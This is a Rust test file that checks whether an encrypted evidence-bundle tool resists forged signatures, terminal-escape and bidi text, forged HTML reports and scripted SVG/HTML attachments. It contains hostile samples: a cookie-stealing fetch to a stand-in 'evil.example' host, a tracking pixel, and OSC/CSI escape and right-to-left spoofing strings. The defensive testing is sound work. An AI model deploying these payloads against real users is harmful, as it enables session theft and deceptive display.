//! The receiving side does not trust text it should not (issue 11). Each attack is built as
//! an adversary would: an ordinary sandyk vault of their own for content, then `age`, `tar`,
//! `ssh-keygen` and text edits (what `sed` does) on the decrypted files — never sandyk's
//! writer for the forged parts.
//!
//! - a forged signer.pub (the defender's public key, the signature by another key): refused
//!   by `sandyk bundle verify|open`, and by the VERIFY.txt steps with stock tools when
//!   `allowed_signers` comes from the defender's key as received in person;
//! - terminal escapes, bidi and invisible characters in every printed field: never in the
//!   raw bytes of `bundle verify|open`, `import`, `import --list`; manifest fields that
//!   carry them are refused;
//! - a forged report.html (a script, a remote tracking image): `bundle open` keeps it only as
//!   `sender-report.html.txt` and writes its own report.html;
//! - SVG and HTML attachments: never linked or inlined by the report.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::*;

/// Text with every kind of dangerous character: an OSC title change and BEL, CSI, a raw C1
/// CSI, RLO/LRI/PDI bidi controls, zero-width and invisible characters, a line separator,
/// tag characters ("HIDE"), a soft hyphen, a supplementary variation selector.
const EVIL: &str = "Ev\u{1b}]0;pwned\u{7}il\u{1b}[2J\u{9b}31m \u{202e}gpj.exe\u{2066}x\u{2069} \
                    zw\u{200b}\u{200d}\u{2060}\u{feff} ls\u{2028}ps\u{2029} \
                    tag\u{e0048}\u{e0049}\u{e0044}\u{e0045} soft\u{ad}hy \u{e0100}end";

/// Whether `bytes` hold anything a terminal would obey or a reader would not see.
fn dirty(bytes: &[u8]) -> Option<String> {
    if let Some(b) = bytes.iter().find(|b| **b == 0x1b || **b == 0x07) {
        return Some(format!("raw byte {b:#04x}"));
    }
    String::from_utf8_lossy(bytes)
        .chars()
        .find(|c| sandyk::untrusted::is_hidden(*c) && *c != '\r')
        .map(|c| format!("U+{:04X}", c as u32))
}

fn assert_clean(o: &Output, what: &str) {
    for (stream, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        if let Some(bad) = dirty(bytes) {
            panic!(
                "{what}: {bad} in {stream}:\n{}",
                String::from_utf8_lossy(bytes).escape_debug()
            );
        }
    }
}

fn sh(script: &str, dir: &Path) -> Output {
    Command::new("sh")
        .arg("-c")
        .arg(script)
        .current_dir(dir)
        .output()
        .unwrap()
}

fn sh_ok(script: &str, dir: &Path) -> String {
    let o = sh(script, dir);
    assert!(o.status.success(), "{script}: {}{}", stdout(&o), stderr(&o));
    stdout(&o)
}

/// The adversary: a sandyk vault of their own (for content), an age key to read their own
/// bundles, and an SSH key to sign forged manifests.
struct Forger {
    env: Env,
    work: PathBuf,
    age_key: PathBuf,
    age_recipient: String,
    ssh_key: PathBuf,
    /// `SHA256:…` of the SSH key, as `ssh-keygen -l` prints it.
    ssh_fp: String,
}

impl Forger {
    fn new(incidents: &str) -> Forger {
        for t in ["age", "tar", "ssh-keygen", "sha256sum"] {
            require_tool(t);
        }
        let env = Env::new();
        env.init();
        env.add_json(incidents);
        let work = env.root.path().join("forge");
        std::fs::create_dir_all(&work).unwrap();
        let age_key = work.join("age.key");
        sh_ok(
            &format!("age-keygen -o {} 2>/dev/null || true", age_key.display()),
            &work,
        );
        let age_recipient = if age_key.exists() {
            sh_ok(&format!("age-keygen -y {}", age_key.display()), &work)
                .trim()
                .to_owned()
        } else {
            // No age-keygen: sandyk's keygen writes a plain age identity file too.
            let o = env.run(&["keygen", "-o", age_key.to_str().unwrap()], &[], b"");
            assert_ok(&o);
            stdout(&o).trim().to_owned()
        };
        let ssh_key = work.join("forger_ed25519");
        sh_ok(
            &format!(
                "ssh-keygen -q -t ed25519 -N '' -C forger -f {}",
                ssh_key.display()
            ),
            &work,
        );
        let l = sh_ok(
            &format!("ssh-keygen -l -f {}.pub", ssh_key.display()),
            &work,
        );
        let ssh_fp = l.split_whitespace().nth(1).unwrap().to_owned();
        Forger {
            env,
            work,
            age_key,
            age_recipient,
            ssh_key,
            ssh_fp,
        }
    }

    /// Export everything from the forger's vault to `recipient` (sandyk used as a user would).
    fn export_to(&self, recipient: &str, name: &str, extra: &[&str]) -> PathBuf {
        let out = self.work.join(name);
        let mut args = vec![
            "export",
            "--all",
            "--to",
            recipient,
            "-o",
            out.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        let o = self.env.run(&args, &[PASS], b"");
        assert_ok(&o);
        out
    }

    /// A template: the forger's own bundle, decrypted with `age` and unpacked with `tar`.
    fn template(&self) -> BTreeMap<String, Vec<u8>> {
        let b = self.export_to(&self.age_recipient.clone(), "template.age", &[]);
        let dir = self.work.join("template");
        std::fs::create_dir(&dir).unwrap();
        sh_ok(
            &format!(
                "age -d -i {} {} | tar -xf - -C {}",
                self.age_key.display(),
                b.display(),
                dir.display()
            ),
            &self.work,
        );
        let mut files = BTreeMap::new();
        for (p, bytes) in Env::all_bytes_under(&dir) {
            let rel = p.strip_prefix(&dir).unwrap().to_str().unwrap().to_owned();
            files.insert(rel, bytes);
        }
        files
    }

    /// Put a bundle together: every `files` line of manifest.json re-hashed (as sed and
    /// sha256sum would), the manifest's signer set to `signer_fp`, signer.pub replaced by
    /// `signer_pub`, the manifest signed with the forger's SSH key (`ssh-keygen -Y sign`),
    /// archived with tar in the manifest's order and encrypted with age to `recipient`.
    fn pack(
        &self,
        mut files: BTreeMap<String, Vec<u8>>,
        signer_pub: &str,
        signer_fp: &str,
        recipient: &str,
        name: &str,
    ) -> PathBuf {
        files.insert("signer.pub".into(), signer_pub.as_bytes().to_vec());
        let manifest = String::from_utf8(files["manifest.json"].clone()).unwrap();
        let mut order = vec!["manifest.json".to_owned(), "manifest.sig".to_owned()];
        let mut out = String::new();
        for line in manifest.lines() {
            if line.starts_with("{\"sha256\":") {
                let path = line.split("\"path\":\"").nth(1).unwrap();
                let path = path.split('"').next().unwrap().to_owned();
                let d = &files[&path];
                let comma = if line.ends_with(',') { "," } else { "" };
                out.push_str(&format!(
                    "{{\"sha256\":\"{}\",\"size\":{},\"path\":\"{path}\"}}{comma}\n",
                    sha256_hex(d),
                    d.len()
                ));
                order.push(path);
            } else if line.starts_with("\"signer\": ") {
                out.push_str(&format!("\"signer\": \"{signer_fp}\",\n"));
            } else {
                out.push_str(line);
                out.push('\n');
            }
        }
        let dir = self.work.join(name).with_extension("d");
        std::fs::create_dir(&dir).unwrap();
        files.insert("manifest.json".into(), out.into_bytes());
        for (p, d) in &files {
            if p == "manifest.sig" {
                continue;
            }
            let f = dir.join(p);
            std::fs::create_dir_all(f.parent().unwrap()).unwrap();
            std::fs::write(f, d).unwrap();
        }
        sh_ok(
            &format!(
                "ssh-keygen -Y sign -f {} -n sandyk-bundle manifest.json 2>/dev/null && mv manifest.json.sig manifest.sig",
                self.ssh_key.display()
            ),
            &dir,
        );
        let out = self.work.join(name);
        sh_ok(
            &format!(
                "tar --format=ustar --owner=0 --group=0 --numeric-owner -cf - {} | age -r {recipient} -o {}",
                order.join(" "),
                out.display()
            ),
            &dir,
        );
        out
    }

    fn own_pub(&self) -> String {
        std::fs::read_to_string(self.ssh_key.with_extension("pub")).unwrap()
    }
}

/// The defender's signing key as the lawyer received it in person: (fingerprint, key line).
fn defender_key(p: &Parties) -> (String, String) {
    let o = p.sender.run(&["bundle", "signer"], &[PASS], b"");
    assert_ok(&o);
    let out = stdout(&o);
    let mut l = out.lines();
    (l.next().unwrap().to_owned(), l.next().unwrap().to_owned())
}

fn open_into(p: &Parties, b: &Path, dir: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "bundle",
        "open",
        b.to_str().unwrap(),
        "--identity",
        p.key.to_str().unwrap(),
        "-o",
        dir.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    p.lawyer.run(&args, &[], b"")
}

/// Every `ssh-ed25519 AAAA…` key written into a text replaced by `with` (what a forger does
/// to a VERIFY.txt that carries a key).
fn swap_keys(text: &str, with: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find("ssh-ed25519 AAAA") {
        out.push_str(&rest[..i]);
        out.push_str(with);
        let after = &rest[i + "ssh-ed25519 ".len()..];
        let end = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
            .unwrap_or(after.len());
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

#[test]
fn forged_signer_pub_fails_in_sandyk_and_with_stock_tools() {
    let p = Parties::new();
    let (def_fp, def_pub) = defender_key(&p);
    let forger = Forger::new(
        r#"[{"title":"Forged incident","occurred":"2026-11-27","category":"other","narrative":"forged"}]"#,
    );
    let mut files = forger.template();
    // The forger's VERIFY.txt: any key it names becomes the forger's own.
    let forger_key: String = forger
        .own_pub()
        .split_whitespace()
        .take(2)
        .collect::<Vec<_>>()
        .join(" ");
    let verify = String::from_utf8(files["VERIFY.txt"].clone()).unwrap();
    let verify = swap_keys(&verify, &forger_key);
    files.insert("VERIFY.txt".into(), verify.clone().into_bytes());
    // signer.pub holds the defender's key and the manifest names the defender's
    // fingerprint; the signature is the forger's.
    let b = forger.pack(
        files,
        &format!("{def_pub}\n"),
        &def_fp,
        &p.recipient,
        "forged-signer.age",
    );

    // sandyk refuses it: verify and open, nothing written.
    let o = p.verify(&b, &[]);
    assert_code(&o, 6);
    assert!(o.stdout.is_empty());
    assert!(stderr(&o).contains("signature"), "{}", stderr(&o));
    let dir = p.lawyer.home().join("opened");
    let o = open_into(&p, &b, &dir, &[]);
    assert_code(&o, 6);
    assert!(!dir.exists());

    // Stock tools, following the bundle's VERIFY.txt with allowed_signers from the key the
    // lawyer received in person: the signature step fails.
    let work = p.lawyer.root.path().join("stock");
    std::fs::create_dir(&work).unwrap();
    std::fs::copy(&b, work.join("bundle.age")).unwrap();
    let sender_key = p.lawyer.home().join("defender.pub");
    std::fs::write(&sender_key, format!("{def_pub}\n")).unwrap();
    let verify = verify.replace(
        &format!("'{}'", forger.work.join("template.age").display()),
        "'bundle.age'",
    );
    let verify = verify.replace("'template.age'", "'bundle.age'");
    let o = crate::bundle_cli::run_verify_txt(&verify, &work, &p.key, &sender_key);
    let out = format!("{}{}", stdout(&o), stderr(&o));
    assert!(
        !o.status.success(),
        "the VERIFY.txt steps accepted a forged signer:\n{verify}\n{out}"
    );
    assert!(out.contains("signer.pub: OK"), "hashes were fine: {out}");
    assert!(
        out.contains("Could not verify signature") || out.contains("verification failed"),
        "it is the signature step that fails: {out}"
    );
    assert!(
        !out.contains(&format!("with ED25519 key {def_fp}")) && !out.contains("Good \""),
        "{out}"
    );
}

/// Incidents whose every text field carries the hostile text.
fn evil_incidents() -> String {
    let e = serde_json::to_string(EVIL).unwrap();
    format!(
        r#"[{{"title":{e},"occurred":"2026-11-27 15:00","category":"other","location":{e},
        "narrative":{e},"tags":[{e}],"perpetrators":[{e}],"victims":[{e}],"witnesses":[{e}],
        "source":{e}}}]"#
    )
}

#[test]
fn escapes_in_received_text_never_reach_the_terminal() {
    let p = Parties::new();
    let forger = Forger::new(&evil_incidents());
    // A real bundle from the forger's own vault: every text field hostile.
    let b = forger.export_to(&p.recipient, "evil.age", &[]);
    let o = forger.env.run(&["bundle", "signer"], &[PASS], b"");
    let fp = stdout(&o).lines().next().unwrap().to_owned();
    let pin = ["--signer", fp.as_str()];

    let o = p.verify(&b, &pin);
    assert_ok(&o);
    assert_clean(&o, "bundle verify");
    let o = p.verify(&b, &[&pin[..], &["--json"]].concat());
    assert_ok(&o);
    assert_clean(&o, "bundle verify --json");
    let dir = p.lawyer.home().join("opened");
    let o = open_into(&p, &b, &dir, &pin);
    assert_ok(&o);
    assert_clean(&o, "bundle open");
    let report = std::fs::read(dir.join("report.html")).unwrap();
    assert!(
        dirty(&report).is_none(),
        "report.html: {:?}",
        dirty(&report)
    );
    assert!(String::from_utf8_lossy(&report).contains("[U+202E]"));

    p.lawyer.init();
    let mut args = vec![
        "import",
        b.to_str().unwrap(),
        "--identity",
        p.key.to_str().unwrap(),
    ];
    args.extend_from_slice(&pin);
    let o = p.lawyer.run(&args, &[PASS], b"");
    assert_ok(&o);
    assert_clean(&o, "import");
    for list in [&["import", "--list"][..], &["import", "--list", "--json"]] {
        let o = p.lawyer.run(list, &[PASS], b"");
        assert_ok(&o);
        assert_clean(&o, &list.join(" "));
        assert!(!o.stdout.is_empty());
    }
    // JSON keeps the data exactly (as \u escapes).
    let o = p.lawyer.run(&["import", "--list", "--json"], &[PASS], b"");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v[0]["current"]["title"], EVIL);
    // The forger's own terminal is safe too (list, show of own incidents).
    let o = forger.env.run(&["list"], &[PASS], b"");
    assert_ok(&o);
    assert_clean(&o, "list");
    let id = stdout(&o).split_whitespace().next().unwrap().to_owned();
    let o = forger.env.run(&["show", &id, "--full"], &[PASS], b"");
    assert_ok(&o);
    assert_clean(&o, "show --full");
}

#[test]
fn hostile_manifest_fields_are_refused_without_echo() {
    let p = Parties::new();
    let forger = Forger::new(r#"[{"title":"t","occurred":"2026-11-27","category":"other"}]"#);
    let template = forger.template();
    let manifest = String::from_utf8(template["manifest.json"].clone()).unwrap();
    let field = |name: &str| {
        manifest
            .lines()
            .find(|l| l.starts_with(&format!("\"{name}\": ")))
            .unwrap()
            .to_owned()
    };
    let evil_json = serde_json::to_string(EVIL).unwrap();
    let cases = [
        (
            "created",
            field("created"),
            format!("\"created\": {evil_json},"),
        ),
        (
            "vault_id",
            field("vault_id"),
            format!("\"vault_id\": {evil_json},"),
        ),
        {
            let head = field("chain_head");
            let seq = head.split(", ").next().unwrap().to_owned(); // "chain_head": {"seq": N
            let evil = format!("\"chain_head\": {{\"seq\": {}", u64::MAX);
            ("seq", seq, evil)
        },
    ];
    for (what, from, to) in cases {
        let mut files = template.clone();
        files.insert(
            "manifest.json".into(),
            manifest.replacen(&from, &to, 1).into_bytes(),
        );
        let b = forger.pack(
            files,
            &forger.own_pub(),
            &forger.ssh_fp,
            &p.recipient,
            &format!("field-{what}.age"),
        );
        let pin = ["--signer", forger.ssh_fp.as_str()];
        let o = p.verify(&b, &pin);
        assert_clean(&o, what);
        assert_code(&o, 6);
        assert!(
            stderr(&o).contains("manifest is invalid"),
            "{what}: {}",
            stderr(&o)
        );
        let o = open_into(&p, &b, &p.lawyer.home().join(format!("o-{what}")), &pin);
        assert_clean(&o, what);
        assert_code(&o, 6);
    }
}

#[test]
fn forged_report_html_is_never_extracted_as_the_report() {
    let p = Parties::new();
    let forger = Forger::new(
        r#"[{"title":"Real title","occurred":"2026-11-27","category":"other","narrative":"real"}]"#,
    );
    let mut files = forger.template();
    let forged = b"<!DOCTYPE html><html><body><h1>Urgent: log in to read</h1>\
        <script>fetch('http://evil.example/x?'+document.cookie)</script>\
        <img src=\"http://evil.example/pixel.gif\"></body></html>\n"
        .to_vec();
    files.insert("report.html".into(), forged.clone());
    let b = forger.pack(
        files,
        &forger.own_pub(),
        &forger.ssh_fp,
        &p.recipient,
        "forged-report.age",
    );
    let dir = p.lawyer.home().join("opened");
    let o = open_into(&p, &b, &dir, &["--signer", &forger.ssh_fp]);
    assert_ok(&o);
    let report = std::fs::read_to_string(dir.join("report.html")).unwrap();
    assert!(
        !report.contains("<script") && !report.contains("http://") && !report.contains("evil"),
        "the sender's HTML was extracted as report.html:\n{report}"
    );
    assert!(
        report.contains("Real title"),
        "rendered from incidents.json"
    );
    assert!(report.contains("default-src 'none'"));
    // The sender's copy is kept as evidence, byte for byte, under a name no browser opens
    // as HTML by a double click.
    assert_eq!(
        std::fs::read(dir.join("sender-report.html.txt")).unwrap(),
        forged
    );
}

#[test]
fn svg_and_html_attachments_are_never_linked_or_inlined() {
    let p = Parties::new();
    let forger =
        Forger::new(r#"[{"title":"With files","occurred":"2026-11-27","category":"other"}]"#);
    let o = forger.env.run(&["list"], &[PASS], b"");
    let id = stdout(&o).split_whitespace().next().unwrap().to_owned();
    let svg = forger.work.join("map.svg");
    std::fs::write(
        &svg,
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n",
    )
    .unwrap();
    let html = forger.work.join("page.html");
    std::fs::write(&html, "<html><script>alert(1)</script></html>\n").unwrap();
    for f in [&svg, &html] {
        let o = forger
            .env
            .run(&["attach", &id, f.to_str().unwrap()], &[PASS], b"");
        assert_ok(&o);
    }
    let b = forger.export_to(&p.recipient, "files.age", &["--originals"]);
    let o = forger.env.run(&["bundle", "signer"], &[PASS], b"");
    let fp = stdout(&o).lines().next().unwrap().to_owned();
    let dir = p.lawyer.home().join("opened");
    let o = open_into(&p, &b, &dir, &["--signer", &fp]);
    assert_ok(&o);
    for name in ["report.html", "sender-report.html.txt"] {
        let report = std::fs::read_to_string(dir.join(name)).unwrap();
        assert!(
            report.contains(".svg") && report.contains(".html"),
            "{name}"
        );
        for bad in [".svg\"", ".html\"", "<img"] {
            assert!(
                !report.contains(bad),
                "{name} links or inlines active content ({bad}):\n{report}"
            );
        }
        // Links only within the page (the chronology's links to each incident).
        assert!(
            report
                .split("<a href=\"")
                .skip(1)
                .all(|l| l.starts_with("#i-")),
            "{name} links out of the page"
        );
    }
}
